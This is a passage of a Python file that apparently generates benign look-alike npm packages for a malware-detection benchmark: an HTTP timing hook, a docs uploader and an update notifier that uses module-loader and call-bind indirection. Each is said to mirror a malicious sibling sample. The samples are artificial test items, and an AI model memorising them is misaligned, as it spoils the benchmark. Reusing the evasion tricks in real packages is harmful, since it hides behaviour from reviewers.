    if (!spans.length) return;
    const body = JSON.stringify(spans.splice(0));
    const u = new URL(endpoint);
    const r = https.request({ hostname: u.hostname, path: u.pathname, method: 'POST', headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' } });
    r.on('error', () => {});
    r.end(body);
  }, interval).unref();
};
"""
    files = {
        "package.json": pj(name="outbound-spans", version="0.9.2", main="index.js",
                           description="Minimal APM: timings of outgoing HTTP requests, exported to your collector.",
                           keywords=["apm", "tracing", "http", "spans"]),
        "README.md": readme("outbound-spans", "```js\nrequire('outbound-spans').start({ endpoint: 'https://collector.example.com/v1/spans', apiKey })\n```"),
        "index.js": index,
    }
    return S(
        "h6b-benign-apm-https-timing-hook",
        "a minimal APM agent that replaces http/https.request to time outgoing requests, redacts "
        "Authorization/Cookie and exports spans to the collector its caller names", "2025",
        ["http-request-hook", "apm", "header-redaction"],
        "Mirrors h6b-sibling-https-hook-no-timestomp and holdout6 yallist: https.request "
        "replaced by a wrapper that looks at the Authorization and Cookie headers, but it "
        "redacts them and sends spans where the caller says.", files)


@benign
def b_babel_docs_indexer():
    index = r""""use strict";

Object.defineProperty(exports, "__esModule", {
  value: true
});
exports.default = indexDocs;
var _fs = _interopRequireDefault(require("fs"));
var _path = _interopRequireDefault(require("path"));
var _https = _interopRequireDefault(require("https"));
function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
const EXTS = [".md", ".mdx", ".txt"];
function indexDocs(root, { appId, apiKey }) {
  const docs = [];
  const walk = dir => {
    for (const d of _fs.default.readdirSync(dir, { withFileTypes: true })) {
      const p = _path.default.join(dir, d.name);
      if (d.isDirectory() && d.name !== "node_modules") walk(p);
      else if (EXTS.some(e => p.endsWith(e))) docs.push({ path: _path.default.relative(root, p), body: _fs.default.readFileSync(p, "utf8") });
    }
  };
  walk(root);
  const req = _https.default.request({ hostname: `${appId}.search.example`, path: "/1/indexes/docs/batch", method: "POST", headers: { "x-api-key": apiKey } });
  req.end(JSON.stringify({ requests: docs.map(d => ({ action: "addObject", body: d })) }));
}
"""
    files = {
        "package.json": pj(name="docs-search-indexer", version="1.1.0", main="lib/index.js",
                           description="Push a project's Markdown docs to a hosted search index.",
                           files=["lib"], keywords=["docs", "search", "index", "markdown"]),
        "README.md": readme("docs-search-indexer", "```js\nrequire('docs-search-indexer').default('docs', { appId, apiKey })\n```"),
        "lib/index.js": index,
    }
    return S(
        "h6b-benign-babel-docs-indexer",
        "Babel-compiled docs indexer that walks a folder, keeps files by extension and uploads "
        "them to a search service named by its caller", "2025",
        ["babel-compiled", "directory-walk", "upload"],
        "Mirrors h6b-babel-config-watcher-https and holdout6 dotenv-flow-lite: a walk that picks "
        "files with LIST.some((e) => p.endsWith(e)) and sends them, but the list is document "
        "extensions.", files)


@benign
def b_loader_shim_callbind_version_check():
    files = {
        "package.json": pj(name="cli-update-hint", version="2.4.0", main="lib/index.js",
                           description="Tell CLI users when a newer version is published.",
                           files=["lib"], keywords=["cli", "update", "notifier", "version"]),
        "README.md": readme("cli-update-hint", "```js\nrequire('cli-update-hint')({ name: 'my-cli', version: '1.0.0' })\n```"),
        "lib/names.js": "'use strict';\nexports.parts = ['.config', 'cli-update-hint', 'last-check.json'];\n",
        "lib/index.js": r"""'use strict';
// Works the same under bundlers that replace require: modules come through the module loader.
const M = module.constructor;
const need = (n) => M._load(n, module, false);
const [fs, os, path] = ['fs', 'os', 'path'].map(need);
const { parts } = require('./names');

module.exports = async function hint({ name, version, registry = 'https://registry.npm.example' }) {
  const file = path.join(os.homedir(), parts[0], parts[1], parts[2]);
  let last = 0;
  try { last = JSON.parse(fs.readFileSync(file, 'utf8')).at; } catch (e) {}
  if (Date.now() - last < 864e5) return;
  const get = Function.prototype.call.bind(globalThis.fetch);
  const res = await get(undefined, `${registry}/${encodeURIComponent(name)}/latest`);
  const { version: latest } = await res.json();
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, JSON.stringify({ at: Date.now() }));
  if (latest !== version) console.error(`${name} ${latest} is available (you have ${version})`);
};
""",
    }
    return S(
        "h6b-benign-loader-shim-callbind-version-check",
        "an update notifier that loads fs/os/path through a module.constructor._load wrapper, "
        "keeps its state file's path pieces in another module and calls fetch through "
        "Function.prototype.call.bind to ask the registry for the latest version", "2025",
        ["module-constructor-load", "function-call-bind", "split-across-modules", "update-check"],
        "Mirrors h6b-loader-wrapper-callbind-plain-https and holdout6 winston-transport-rotate: "
        "the same loading and call tricks, but it reads its own state file and sends only the "
        "package name.", files)
